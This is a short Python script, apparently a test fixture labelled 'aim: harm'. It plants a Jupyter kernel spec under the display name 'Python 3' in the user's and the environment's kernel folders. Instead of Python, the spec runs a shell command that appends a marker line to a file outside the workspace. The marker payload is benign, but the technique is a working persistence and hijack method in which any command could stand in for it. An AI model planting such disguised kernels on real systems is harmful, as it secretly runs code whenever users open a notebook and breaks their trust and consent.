# Plants a Jupyter kernel under the usual name that runs a command of its own.
# aim: harm
# %% first
import json
import os
import pathlib
import pwd
import sys

kernel = {
    "argv": ["sh", "-c", "echo ran >> @OUTSIDE@/planted_kernel.txt"],
    "display_name": "Python 3",
    "language": "python",
}
home = pwd.getpwuid(os.getuid()).pw_dir
for folder in (f"{home}/.local/share/jupyter", f"{sys.prefix}/share/jupyter"):
    target = pathlib.Path(folder, "kernels", "planted", "kernel.json")
    try:
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text(json.dumps(kernel))
        print("wrote", target)
    except OSError as error:
        print(error)
